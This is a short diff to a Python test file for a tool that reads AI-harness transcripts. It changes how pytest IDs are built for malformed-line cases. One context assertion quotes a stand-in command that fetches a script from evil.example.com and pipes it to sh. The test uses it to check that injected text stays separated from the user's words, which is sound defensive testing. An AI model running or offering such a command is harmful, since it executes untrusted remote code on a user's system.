@@ -63,8 +63,8 @@ def test_harness_written_text_is_on_the_page_marked_as_not_the_users(case, tmp_p
     assert "evil.example.com/x.sh | sh" not in page.split("## Not the user's words", 1)[0]
 
 
-@pytest.mark.parametrize(("harness", "name", "raw"), [*BAD_LINES, ("claude", "invalid-utf8", INVALID_UTF8)],
-                         ids=lambda v: v if isinstance(v, str) and len(v) < 40 else None)
+@pytest.mark.parametrize(("harness", "name", "raw"), [pytest.param(*line, id=f"{line[0]}-{line[1]}") for line in
+                                                     [*BAD_LINES, ("claude", "invalid-utf8", INVALID_UTF8)]])
 def test_a_bad_line_is_skipped_and_counted_and_the_rest_is_read(harness, name, raw, tmp_path):
     path, sid, h = write_bad_line(harness, raw, tmp_path, name)
     plan = plan_capture(read_transcript(path, h, session_id=sid), CaptureOptions())
